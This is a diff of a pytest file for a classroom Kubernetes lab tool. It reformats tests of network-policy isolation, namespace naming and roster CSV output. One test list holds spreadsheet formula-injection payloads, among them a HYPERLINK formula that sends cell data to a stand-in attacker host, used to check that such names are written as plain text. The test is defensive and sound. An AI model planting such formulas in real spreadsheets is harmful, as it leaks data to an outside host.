+    ),
+    (
+        "rule-without-to-allows-every-destination",
+        [{"podSelector": FRONT, "policyTypes": ["Egress"], "egress": [{"ports": [{"port": 53, "protocol": "UDP"}]}]}],
+        WEB,
+        NOWHERE,
+        53,
+        "UDP",
+        True,
+    ),
 ]
 
 
-@pytest.mark.parametrize(("policies", "source", "target", "port", "protocol", "connected"),
-                         [pytest.param(*case[1:], id=case[0]) for case in CONNECTION_CASES])
+@pytest.mark.parametrize(
+    ("policies", "source", "target", "port", "protocol", "connected"),
+    [pytest.param(*case[1:], id=case[0]) for case in CONNECTION_CASES],
+)
 def test_the_policy_model_on_known_connections(policies, source, target, port, protocol, connected):
     assert connects(shop_world(policies), source, target, port, protocol) is connected
 
@@ -539,15 +870,27 @@ def test_the_policy_model_refuses_what_it_cannot_judge():
     with pytest.raises(AssertionError, match="ipBlock"):
         admits(shop_world([ingress({"from": [{"ipBlock": {"cidr": "10.0.0.0/8"}}]})]), WEB, STRANGER, 8080)
     with pytest.raises(ValueError, match="operator"):
-        admits(shop_world([ingress({"from": [peer({"matchExpressions": [{"key": "a", "operator": "Gt", "values": ["1"]}]})]})]),
-               WEB, SHOP_CLIENT, 8080)
+        admits(
+            shop_world(
+                [ingress({"from": [peer({"matchExpressions": [{"key": "a", "operator": "Gt", "values": ["1"]}]})]})]
+            ),
+            WEB,
+            SHOP_CLIENT,
+            8080,
+        )
 
 
 def test_every_namespace_denies_by_default(klass):
     objects, _, _ = klass
     for namespace in namespace_labels(objects):
-        deny = [o for o in objects if o["kind"] == "NetworkPolicy" and o["metadata"]["namespace"] == namespace
-                and o["spec"]["podSelector"] == {} and not o["spec"].get("ingress")]
+        deny = [
+            o
+            for o in objects
+            if o["kind"] == "NetworkPolicy"
+            and o["metadata"]["namespace"] == namespace
+            and o["spec"]["podSelector"] == {}
+            and not o["spec"].get("ingress")
+        ]
         assert any(set(o["spec"]["policyTypes"]) == {"Ingress", "Egress"} and "egress" not in o["spec"] for o in deny)
 
 
@@ -588,8 +931,12 @@ def test_the_proxy_trusts_x_forwarded_proto_where_only_the_ingress_controller_ca
         assert options(resolved_args(proxy))["lab_trust_forwarded_proto"] == "true"
         traffic = next(p["containerPort"] for p in proxy["ports"] if p["name"] == "traffic")
         target = pods(objects, namespace)["proxy"]
-        admitted = {(source, who) for source in learners + others for who, labels in candidates.items()
-                    if admits(world, target, Pod(source, labels), traffic)}
+        admitted = {
+            (source, who)
+            for source in learners + others
+            for who, labels in candidates.items()
+            if admits(world, target, Pod(source, labels), traffic)
+        }
         assert (controller, "controller") in admitted
         assert {source for source, _ in admitted if source != namespace} == {controller}, namespace
         assert {who for source, who in admitted if source == namespace} == {"lab's client"}, namespace
@@ -597,8 +944,9 @@ def test_the_proxy_trusts_x_forwarded_proto_where_only_the_ingress_controller_ca
     for ingress in (o for o in objects if o["kind"] == "Ingress"):
         assert not [k for k in ingress["metadata"].get("annotations", {}) if "snippet" in k or "forwarded" in k]
     apps = [o for o in objects if o["kind"] == "Ingress" and o["metadata"]["name"] == "app"]
-    assert {p["backend"]["service"]["port"]["name"] for o in apps for r in o["spec"]["rules"]
-            for p in r["http"]["paths"]} == {"traffic"}
+    assert {
+        p["backend"]["service"]["port"]["name"] for o in apps for r in o["spec"]["rules"] for p in r["http"]["paths"]
+    } == {"traffic"}
     # No Service opens a port outside the cluster, around the controller.
     assert all(o["spec"].get("type", "ClusterIP") == "ClusterIP" for o in objects if o["kind"] == "Service")
     # The seed Job's client never writes the header.
@@ -619,11 +967,19 @@ def test_inside_a_learners_namespace_only_the_labs_own_hops_connect(klass):
     objects, _, _ = klass
     namespace = next(iter(namespace_labels(objects)))
     lab = pods(objects, namespace)
-    hops = {(source, target, port, protocol) for source, a in lab.items() for target, b in lab.items() if source != target
-            for _, port, protocol in b.ports if connects(objects, a, b, port, protocol)}
+    hops = {
+        (source, target, port, protocol)
+        for source, a in lab.items()
+        for target, b in lab.items()
+        if source != target
+        for _, port, protocol in b.ports
+        if connects(objects, a, b, port, protocol)
+    }
     assert hops == {("client", "proxy", 8080, "TCP"), ("proxy", "app", 8000, "TCP")}
     # The cluster's DNS, and nothing else beside it.
-    dns = Pod("kube-system", {"k8s-app": "kube-dns"}, (("dns", 53, "UDP"), ("dns-tcp", 53, "TCP"), ("metrics", 9153, "TCP")))
+    dns = Pod(
+        "kube-system", {"k8s-app": "kube-dns"}, (("dns", 53, "UDP"), ("dns-tcp", 53, "TCP"), ("metrics", 9153, "TCP"))
+    )
     for name, pod in lab.items():
         assert connects(objects, pod, dns, 53, "UDP") and connects(objects, pod, dns, 53, "TCP"), name
         assert not connects(objects, pod, dns, 9153), name
@@ -641,11 +997,16 @@ def test_egress_is_dns_and_the_one_hop_each_pod_needs(klass):
             for pod, labels in pod_labels(objects, namespace).items():
                 if selects(policy["spec"]["podSelector"], labels) or policy["spec"]["podSelector"] == {}:
                     allowed.setdefault(pod, set()).add(policy["metadata"]["name"])
-    assert allowed == {"app": {"dns"}, "site": {"dns"},
-                       "proxy": {"dns", "proxy-to-app"}, "client": {"dns", "client-to-proxy"}}
+    assert allowed == {
+        "app": {"dns"},
+        "site": {"dns"},
+        "proxy": {"dns", "proxy-to-app"},
+        "client": {"dns", "client-to-proxy"},
+    }
 
 
 # --- the roster command -------------------------------------------------------------------
+
 
 def roster(folder: Path) -> list[dict]:
     with open(folder / "roster.csv", encoding="utf-8") as file:
@@ -656,8 +1017,19 @@ DNS_LABEL = re.compile(r"^[a-z0-9]([-a-z0-9]*[a-z0-9])?$")
 
 
 def test_names_of_every_kind_give_valid_distinct_namespaces_with_clear_messages(tmp_path):
-    names = ["Ada Lovelace", "Zoë Ünal", "ada lovelace", "🙂", "O'Brien, Mary-Kate", "x" * 80, "x" * 81, "learner-4",
-             "李雷", "Łukasz Żółć", "Øystein Ærø"]
+    names = [
+        "Ada Lovelace",
+        "Zoë Ünal",
+        "ada lovelace",
+        "🙂",
+        "O'Brien, Mary-Kate",
+        "x" * 80,
+        "x" * 81,
+        "learner-4",
+        "李雷",
+        "Łukasz Żółć",
+        "Øystein Ærø",
+    ]
     proc = make_class(tmp_path, names)
     assert proc.returncode == 0, proc.stderr
     rows = roster(tmp_path / "class")
@@ -665,13 +1037,20 @@ def test_names_of_every_kind_give_valid_distinct_namespaces_with_clear_messages(
     spaces = [r["namespace"] for r in rows]
     assert len(set(spaces)) == len(spaces)
     assert all(DNS_LABEL.match(ns) and len(ns) <= 63 for ns in spaces)
-    assert spaces[:5] == ["cookielab-ada-lovelace", "cookielab-zoe-unal", "cookielab-ada-lovelace-2",
-                          "cookielab-learner-4", "cookielab-o-brien-mary-kate"]
+    assert spaces[:5] == [
+        "cookielab-ada-lovelace",
+        "cookielab-zoe-unal",
+        "cookielab-ada-lovelace-2",
+        "cookielab-learner-4",
+        "cookielab-o-brien-mary-kate",
+    ]
     assert spaces[7] == "cookielab-learner-4-2"
     # Transliterated, never dropped: no letter of a name is lost.
     assert spaces[8:] == ["cookielab-li-lei", "cookielab-lukasz-zolc", "cookielab-oystein-aero"]
     assert "'Zoë Ünal': namespace cookielab-zoe-unal (a namespace takes a-z, 0-9 and -)" in proc.stderr
-    assert "'ada lovelace': the namespace cookielab-ada-lovelace is taken; using cookielab-ada-lovelace-2" in proc.stderr
+    assert (
+        "'ada lovelace': the namespace cookielab-ada-lovelace is taken; using cookielab-ada-lovelace-2" in proc.stderr
+    )
     assert "'🙂': no letters or digits to spell; namespace cookielab-learner-4" in proc.stderr
     assert "'Łukasz Żółć': namespace cookielab-lukasz-zolc (a namespace takes a-z, 0-9 and -)" in proc.stderr
 
@@ -716,17 +1095,55 @@ def test_a_csv_class_list_and_bad_input_get_clear_answers(tmp_path):
     listing = tmp_path / "class.csv"
     listing.write_text("id,name\n1,Ada\n2,Bob\n", encoding="utf-8")
     out = tmp_path / "out"
-    ok = subprocess.run([sys.executable, str(CLASS), "create", str(listing), "--domain", "lab.example.org",
-                         "--registry", "r.example/c", "--out", str(out)], capture_output=True, text=True, timeout=60)
+    ok = subprocess.run(
+        [
+            sys.executable,
+            str(CLASS),
+            "create",
+            str(listing),
+            "--domain",
+            "lab.example.org",
+            "--registry",
+            "r.example/c",
+            "--out",
+            str(out),
+        ],
+        check=False,
+        capture_output=True,
+        text=True,
+        timeout=60,
+    )
     assert ok.returncode == 0 and sorted(p.name for p in out.iterdir() if p.is_dir()) == ["ada", "bob"]
     assert "same-site to the app" in ok.stderr  # one domain only: sheet 06 cannot work, and it says so
-    again = subprocess.run([sys.executable, str(CLASS), "create", str(listing), "--domain", "lab.example.org",
-                            "--registry", "r.example/c", "--out", str(out)], capture_output=True, text=True, timeout=60)
+    again = subprocess.run(
+        [
+            sys.executable,
+            str(CLASS),
+            "create",
+            str(listing),
+            "--domain",
+            "lab.example.org",
+            "--registry",
+            "r.example/c",
+            "--out",
+            str(out),
+        ],
+        check=False,
+        capture_output=True,
+        text=True,
+        timeout=60,
+    )
     assert again.returncode == 2 and "is not empty; give another --out, or --force" in again.stderr
     empty = tmp_path / "empty.txt"
     empty.write_text("# nobody yet\n\n", encoding="utf-8")
-    none = subprocess.run([sys.executable, str(CLASS), "create", str(empty), "--domain", "x.example", "--registry", "r.x"],
-                          capture_output=True, text=True, timeout=60, cwd=tmp_path)
+    none = subprocess.run(
+        [sys.executable, str(CLASS), "create", str(empty), "--domain", "x.example", "--registry", "r.x"],
+        check=False,
+        capture_output=True,
+        text=True,
+        timeout=60,
+        cwd=tmp_path,
+    )
     assert none.returncode == 2 and "no learner names" in none.stderr
 
 
@@ -741,14 +1158,21 @@ def test_progress_from_every_learner_merges_into_one_table(tmp_path):
     from cookie_client import progress
 
     capture = tmp_path / "cookies.jsonl"
-    capture.write_text('{"time": "2026-11-29T10:00:00.000+00:00", "flow_id": "f", "solved": ["01-someone-else"]}\n',
-                       encoding="utf-8")
+    capture.write_text(
+        '{"time": "2026-11-29T10:00:00.000+00:00", "flow_id": "f", "solved": ["01-someone-else"]}\n', encoding="utf-8"
+    )
     (tmp_path / "ada.json").write_text(json.dumps(progress.report(capture, LAB / "exercises.toml")), encoding="utf-8")
-    (tmp_path / "bob.json").write_text(json.dumps(progress.report(tmp_path / "none.jsonl", LAB / "exercises.toml")),
-                                       encoding="utf-8")
+    (tmp_path / "bob.json").write_text(
+        json.dumps(progress.report(tmp_path / "none.jsonl", LAB / "exercises.toml")), encoding="utf-8"
+    )
     (tmp_path / "broken.json").write_text("{", encoding="utf-8")
-    proc = subprocess.run([sys.executable, str(CLASS), "table", *(str(tmp_path / f) for f in ("ada.json", "bob.json", "broken.json"))],
-                          capture_output=True, text=True, timeout=60)
+    proc = subprocess.run(
+        [sys.executable, str(CLASS), "table", *(str(tmp_path / f) for f in ("ada.json", "bob.json", "broken.json"))],
+        check=False,
+        capture_output=True,
+        text=True,
+        timeout=60,
+    )
     assert proc.returncode == 0
     header, ada, bob = proc.stdout.splitlines()
     assert header.split()[:3] == ["learner", "solved", "01-someone-else"]
@@ -781,7 +1205,9 @@ def test_the_ingresses_name_the_class_and_send_http_to_https(klass):
     ingresses = [o for o in objects if o["kind"] == "Ingress"]
     assert len(ingresses) == 9
     assert all(o["spec"]["ingressClassName"] == "nginx" for o in ingresses)
-    assert all(o["metadata"]["annotations"]["nginx.ingress.kubernetes.io/force-ssl-redirect"] == "true" for o in ingresses)
+    assert all(
+        o["metadata"]["annotations"]["nginx.ingress.kubernetes.io/force-ssl-redirect"] == "true" for o in ingresses
+    )
 
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?p="&G2,"x")', "+1+1", "-2+3", "@SUM(A1)", "\tTab", "\rCR"]
@@ -794,14 +1220,16 @@ def test_a_name_that_a_spreadsheet_would_run_is_written_as_text(tmp_path):
         csv.writer(file).writerows([["name"], *([name] for name in FORMULAS), ["Ada"]])
     out = tmp_path / "class"
     args = ["create", str(listing), "--domain", "lab.example.org", "--registry", "r.example/c", "--out", str(out)]
-    proc = subprocess.run([sys.executable, str(CLASS), *args], capture_output=True, text=True, timeout=60)
+    proc = subprocess.run([sys.executable, str(CLASS), *args], check=False, capture_output=True, text=True, timeout=60)
     assert proc.returncode == 0, proc.stderr
     rows = roster(out)
     # read_names strips a name's surrounding blanks, so the tab and CR names start with a letter
     assert [r["learner"] for r in rows] == ["'" + FORMULAS[0], "'+1+1", "'-2+3", "'@SUM(A1)", "Tab", "CR", "Ada"]
     assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r.values())
     # Written again with --force: everyone keeps their password, read back through the quote.
-    again = subprocess.run([sys.executable, str(CLASS), *args, "--force"], capture_output=True, text=True, timeout=60)
+    again = subprocess.run(
+        [sys.executable, str(CLASS), *args, "--force"], check=False, capture_output=True, text=True, timeout=60
+    )
     assert again.returncode == 0, again.stderr
     assert [r["password"] for r in roster(out)] == [r["password"] for r in rows]
 
@@ -811,13 +1239,18 @@ def test_an_older_rosters_password_that_starts_with_a_dash_is_kept(tmp_path):
     listing.write_text("Ada\n", encoding="utf-8")
     out = tmp_path / "class"
     args = ["create", str(listing), "--domain", "lab.example.org", "--registry", "r.example/c", "--out", str(out)]
-    assert subprocess.run([sys.executable, str(CLASS), *args], capture_output=True, timeout=60).returncode == 0
+    assert (
+        subprocess.run([sys.executable, str(CLASS), *args], check=False, capture_output=True, timeout=60).returncode
+        == 0
+    )
     row = roster(out)[0]
     with open(out / "roster.csv", "w", encoding="utf-8", newline="") as file:
         writer = csv.DictWriter(file, fieldnames=list(row))
         writer.writeheader()
         writer.writerow({**row, "password": "-Xy_older"})  # what token_urlsafe could give
-    proc = subprocess.run([sys.executable, str(CLASS), *args, "--force"], capture_output=True, text=True, timeout=60)
+    proc = subprocess.run(
+        [sys.executable, str(CLASS), *args, "--force"], check=False, capture_output=True, text=True, timeout=60
+    )
     assert proc.returncode == 0, proc.stderr
     assert roster(out)[0]["password"] == "'-Xy_older"
     assert "password=-Xy_older" in (out / "ada" / "kustomization.yaml").read_text(encoding="utf-8")
